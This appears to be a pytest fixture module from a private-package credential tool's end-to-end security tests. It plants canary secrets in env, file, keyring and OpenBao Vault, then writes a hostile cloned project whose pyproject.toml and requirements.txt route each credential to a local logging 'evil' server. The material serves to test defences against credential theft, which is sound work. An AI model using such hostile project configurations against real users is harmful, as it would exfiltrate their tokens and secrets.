"""The victim of a hostile cloned project (tests/e2e/test_trust.py, test_trust_attacks.py),
loaded by tests/conftest.py as a pytest plugin so every e2e module can ask for `victim`.

The victim holds five canaries: an environment variable, a file under HOME, a keyrings.alt
item, a Vault token and a Vault secret in a real OpenBao. The project's rules send each to
an evil server on 127.0.0.1 (support/evil_server.py, which keeps every header it gets),
and its `[tool.private-packages.vault] addr` points there too.

`good` and `evil` are a pair of such logging servers on their own loopback addresses, for
attacks where the user's own rule binds one host and a project or a parser steers the
credential to the other (test_run_seams.py, test_url_readings.py).
"""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Optional

import pytest

from support.evil_server import EvilServer
from support.openbao import OpenBaoServer
from tests.leaks import assert_not_in_texts
from tests.venvs import locked_venv

KEYRING_SERVICE = "https://upload.pypi.org/legacy/"
READ_CI = 'path "secret/data/ci/*" { capabilities = ["read"] }'
SOURCES = ("env", "file", "keyring", "vault")


def hostile_pyproject(evil: str, *, version: str = "0.1.0", file_ref: str = "token",
                      vault_table: bool = True) -> str:
    sources = "".join(
        f'\n[[tool.poetry.source]]\nname = "{name}"\nurl = "{evil}/{name}/simple/"\n'
        f'priority = "{"primary" if name == "env" else "supplemental"}"\n' for name in SOURCES)
    vault = f'\n[tool.private-packages.vault]\naddr = "{evil}"\n' if vault_table else ""
    return f"""\
[project]
name = "victim-app"
version = "{version}"
requires-python = ">=3.9"
dependencies = ["acme-internal"]

[tool.poetry]
package-mode = false
{sources}
[[tool.private-packages.credentials]]
source = "env"
username = "u"
password = "${{VICTIM_TOKEN}}"

[[tool.private-packages.credentials]]
url = "{evil}/file"
username = "u"
password = "${{file:~/.secrets/{file_ref}}}"

[[tool.private-packages.credentials]]
url = "{evil}/keyring"
username = "u"
password = "${{keyring:{KEYRING_SERVICE}#__token__}}"

[[tool.private-packages.credentials]]
url = "{evil}/vault"
username = "u"
password = "${{vault:secret/ci/pypi#token}}"
{vault}"""


@pytest.fixture(scope="session")
def victim_bin(tmp_path_factory: pytest.TempPathFactory, project_wheel: Path) -> Path:
    """pip, keyring with keyrings.alt (the victim's keyring item), twine, and our wheel."""
    return locked_venv(tmp_path_factory, "trust-victim", project_wheel, seed=True)


@pytest.fixture(scope="module")
def bao() -> Iterator[OpenBaoServer]:
    with OpenBaoServer() as server:
        server.create_policy("read-ci", READ_CI)
        yield server


@dataclass
class Victim:
    evil: EvilServer
    project: Path
    home: Path
    bin: Path
    env: dict[str, str]
    canaries: dict[str, str]
    outputs: dict[str, str] = field(default_factory=dict)

    def run(self, *argv: str, cwd: Optional[Path] = None, input: Optional[str] = None,
            extra: Optional[dict[str, str]] = None) -> subprocess.CompletedProcess[str]:
        result = subprocess.run(list(argv), cwd=cwd or self.project, input=input or "",
                                env={**self.env, **(extra or {})}, capture_output=True,
                                text=True, timeout=300, check=False)
        label = f"{Path(argv[0]).name} {' '.join(argv[1:3])} #{len(self.outputs)}"
        self.outputs[label] = result.stdout + result.stderr
        return result

    def pip(self, *args: str, extra: Optional[dict[str, str]] = None,
            ) -> subprocess.CompletedProcess[str]:
        """Plain pip asking our backend for every index of requirements.txt."""
        return self.run(str(self.bin / "python"), "-m", "pip", "install", "--no-cache-dir",
                        "--no-input", "--keyring-provider", "import", "--target",
                        str(self.home / "t"), "-r", "requirements.txt", *args, extra=extra)

    def leaked(self) -> dict[str, list[str]]:
        """Canary -> the evil server's requests that carried it (in any form)."""
        return {label: hits for label, value in self.canaries.items()
                if (hits := self.evil.saw(value, "u"))}

    def assert_outputs_clean(self) -> None:
        for value in self.canaries.values():
            assert_not_in_texts(value, self.outputs, username="u")


@pytest.fixture
def victim(tmp_path: Path, client_env: dict[str, str], home: Path, victim_bin: Path,
           bao: OpenBaoServer) -> Iterator[Victim]:
    canaries = {"env": _canary("env"), "file": _canary("file"),
                "keyring": _canary("keyring"), "vault secret": _canary("vault"),
                "vault token": bao.create_token(["read-ci"])}
    bao.put_v2("ci/pypi", {"token": canaries["vault secret"]})
    (home / ".secrets").mkdir()
    (home / ".secrets" / "token").write_text(canaries["file"] + "\n")
    env = {**client_env, "VICTIM_TOKEN": canaries["env"], "VAULT_ADDR": bao.addr,
           "VAULT_TOKEN": canaries["vault token"], "GIT_TERMINAL_PROMPT": "0",
           "PATH": f"{victim_bin}:{client_env['PATH']}"}
    subprocess.run([str(victim_bin / "python"), "-c",
                    "import sys; from keyrings.alt.file import PlaintextKeyring; "
                    "PlaintextKeyring().set_password(sys.argv[1], '__token__', sys.argv[2])",
                    KEYRING_SERVICE, canaries["keyring"]], env=env, check=True)
    with EvilServer() as evil:
        project = tmp_path / "cloned"
        project.mkdir()
        (project / "pyproject.toml").write_text(hostile_pyproject(evil.url))
        (project / "requirements.txt").write_text(
            f"--index-url {evil.url}/env/simple/\n" + "".join(
                f"--extra-index-url {evil.url}/{name}/simple/\n" for name in SOURCES[1:])
            + "acme-internal\n")
        yield Victim(evil, project, home, victim_bin, env, canaries)


def _canary(label: str) -> str:
    from tests.conftest import make_canary  # conftest loads this module: import late

    return make_canary(label)


@pytest.fixture
def good() -> Iterator[EvilServer]:
    """A logging server for the index a user's rule binds (it wants a login too), on its
    own loopback address beside `evil`'s."""
    with EvilServer("127.0.0.2") as server:
        yield server


@pytest.fixture
def evil() -> Iterator[EvilServer]:
    """The attacker's logging server: every Authorization and X-Vault-Token it is sent."""
    with EvilServer("127.0.0.3") as server:
        yield server
